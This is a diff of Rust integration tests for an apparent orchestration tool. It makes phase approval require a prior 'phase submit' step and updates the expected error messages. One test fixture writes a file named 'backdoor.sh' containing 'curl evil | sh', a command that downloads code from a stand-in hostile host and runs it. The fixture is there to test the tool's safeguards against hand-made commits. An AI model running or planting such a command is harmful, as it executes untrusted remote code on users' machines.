@@ -309,9 +309,12 @@ fn approving_a_phase_needs_passing_evidence_or_a_named_override() {
     t.run(["phase", "start"]).ok();
     t.commit_file("area1/a.txt", "a\n", "feat(x): work");
     let before = t.rev("orchestrate/x/main");
-    // The review-stage gate never ran: approving runs it, and it fails.
+    // The review-stage gate never ran: submitting runs it, and it fails; the phase cannot be
+    // submitted, so it cannot be approved.
+    let run = t.run(["phase", "submit"]).code(1);
+    assert!(run.stderr.contains("phase 1 of x is not ready for review"), "{}", run.stderr);
     let run = t.run(["approve", "phase", "--yes"]).code(1);
-    assert!(run.stderr.contains("phase 1 of x cannot be approved: tests did not pass"), "{}", run.stderr);
+    assert!(run.stderr.contains("phase 1 of x is not submitted for review"), "{}", run.stderr);
     assert_eq!(t.rev("orchestrate/x/main"), before, "nothing was squashed");
     // An override needs a reason, and names a gate that blocks.
     assert!(t.run(["approve", "phase", "--yes", "--override", "tests"]).code(2).stderr.contains("needs the reason"));
@@ -335,6 +338,7 @@ fn approving_a_phase_needs_passing_evidence_or_a_named_override() {
     // Phase 2: the fix makes the gate pass and the approval goes through without an override.
     t.run(["phase", "start"]).ok();
     t.commit_file("area1/tested", "yes\n", "test(x): mark tested");
+    t.run(["phase", "submit"]).ok();
     t.run(["approve", "phase", "--yes"]).ok();
 }
 
@@ -403,6 +407,7 @@ fn a_commit_slipped_onto_the_integration_branch_changes_neither_config_nor_appro
     assert_ne!(run.code, 0, "{}", run.stderr);
     t.git(["rm", "-q", "--cached", "area1/key.py"]);
     t.commit_file("area1/ok.txt", "ok\n", "feat(x): fine");
+    t.run(["phase", "submit"]).ok();
     // And an approval refuses to squash on top of the hand-made commit.
     let run = t.run(["approve", "phase", "--yes"]).code(1);
     assert!(run.stderr.contains("made by hand, which changes .orchestrate.toml"), "{}", run.stderr);
@@ -414,6 +419,7 @@ fn a_commit_slipped_onto_the_integration_branch_changes_neither_config_nor_appro
 fn trailers_written_by_hand_are_not_an_interrupted_approval() {
     let t = on_phase_with_remote("");
     t.commit_file("area1/ok.txt", "ok\n", "feat(x): harmless");
+    t.run(["phase", "submit"]).ok();
     let phase = t.head_branch();
     t.git(["switch", "-q", "orchestrate/x/main"]);
     t.write("backdoor.sh", "curl evil | sh\n");
